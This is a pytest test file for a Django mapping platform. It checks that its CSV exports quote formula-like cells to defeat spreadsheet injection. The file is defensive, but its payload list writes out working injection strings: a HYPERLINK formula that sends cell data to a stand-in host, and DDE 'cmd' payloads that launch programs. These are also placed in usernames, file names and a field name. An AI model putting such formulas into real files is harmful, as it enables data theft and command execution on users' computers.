"""Every CSV the platform writes is safe to open in a spreadsheet: formula-like cells are quoted, numbers stay numbers."""
import csv
import io
from urllib.parse import quote

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from layers.spreadsheet import safe_cell, safe_row
from tests.factories import make_feature, make_layer, make_parcel_layer, square

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(A1)",
    "\uff1d1+1",  # full-width equals sign
    "-",
    "=",
]
HARMLESS = ["Số 1 đường Thảo Điền", "12", "-12.5", "+3", "1e3", "", "Nguyễn Văn A - chủ hộ", "a=b"]


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def formula_like(cell: str) -> bool:
    """What a spreadsheet would evaluate: the test's own, independent statement of the OWASP rule."""
    if cell[:1] in ("\t", "\r"):
        return True
    start = cell.lstrip(" \n")
    if not start or start[0] not in "=+-@\uff1d\uff0b\uff0d\uff20":
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_injection_prefix_is_quoted(payload):
    assert safe_cell(payload) == "'" + payload
    assert not formula_like(safe_cell(payload))


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_and_numbers_are_untouched(value):
    assert safe_cell(value) == value


def test_numeric_values_stay_numbers():
    assert safe_row([-2, -0.5, 3, None, True, "-7"]) == [-2, -0.5, 3, None, True, "-7"]


@pytest.fixture
def hostile(db):
    """A parcel layer whose text cells carry every payload and whose numbers are negative."""
    layer = make_parcel_layer(slug="hostile")
    for n, payload in enumerate(PAYLOADS, start=1):
        make_feature(layer, square(106.70 + n * 0.001, 10.80), {
            "ward_code": payload, "map_sheet": -n, "parcel_no": n, "land_use": "ODT",
            "legal_area": -1.5 * n, "address": payload}, refresh=False)
    from layers.services import layer_refresh_stats

    return layer_refresh_stats(layer=layer)


def _assert_safe(data: bytes, expected_rows: int) -> list[dict]:
    table = rows_of(data)
    header, records = table[0], table[1:]
    assert len(records) == expected_rows
    for row in table:
        for cell in row:
            assert not formula_like(cell), cell
    return [dict(zip(header, row)) for row in records]


@pytest.mark.parametrize("query", ["", "?crs=9210", "?bbox=106.70,10.79,106.73,10.81", "?properties=address,legal_area",
                                   "AS_OF"])
def test_csv_downloads_quote_every_payload_and_keep_numbers(client, hostile, query):
    if query == "AS_OF":
        query = f"?as_of={quote(timezone.now().isoformat())}"
    response = client.get(f"/data/hostile.csv{query}")
    assert response.status_code == 200
    records = _assert_safe(body(response), len(PAYLOADS))
    assert sorted(r["address"] for r in records) == sorted("'" + p for p in PAYLOADS)
    areas = sorted(float(r["legal_area"]) for r in records)
    assert areas[0] == -1.5 * len(PAYLOADS) and areas[-1] == -1.5  # negative numbers are still numbers
    for record in records:
        assert not record["legal_area"].startswith("'")
        if "map_sheet" in record:
            assert int(record["map_sheet"]) < 0


def test_schemaless_layer_quotes_header_and_cells(client, db):
    layer = make_layer(slug="loose", geometry_type="Point")
    make_feature(layer, "POINT(106.75 10.82)", {"=cmd|' /C calc'!A0": "@SUM(1)", "depth": "-3"})
    response = client.get("/data/loose.csv")
    assert response.status_code == 200
    records = _assert_safe(body(response), 1)
    assert records[0]["'=cmd|' /C calc'!A0"] == "'@SUM(1)"
    assert records[0]["depth"] == "-3"  # a plain number in a text field is still a number to a spreadsheet


def test_audit_csv_quotes_every_payload():
    """Usernames and ingest file names are free text that lead their cells in the audit export."""
    from ingest.models import IngestRun
    from layers.history import change_context

    layer = make_parcel_layer(slug="audit-parcels")
    for n, payload in enumerate(PAYLOADS):
        editor = User.objects.create_user(payload)
        change_context(user=editor, comment=payload)
        make_feature(layer, square(106.75 + n * 0.001, 10.80), {"ward_code": "27088", "map_sheet": 1, "parcel_no": n + 1,
                                                                 "land_use": "ODT", "legal_area": 1.0})
        IngestRun.objects.create(layer_slug=payload[:50], user=editor, file_name=payload, mode="append", status="done")
    admin = Client()
    admin.force_login(User.objects.create_superuser("chief", password="x-chief-pw-1"))
    response = admin.get(reverse("audit"), {"format": "csv"})
    assert response.status_code == 200
    records = _assert_safe(response.content, 2 * len(PAYLOADS))
    names = User.objects.exclude(username="chief").values_list("username", flat=True)  # as Django normalised them
    assert sorted(r["user"] for r in records if r["kind"] == "edit") == sorted("'" + n for n in names)
    assert sorted(r["layer"] for r in records if r["kind"] == "ingest") == sorted("'" + p[:50] for p in PAYLOADS)
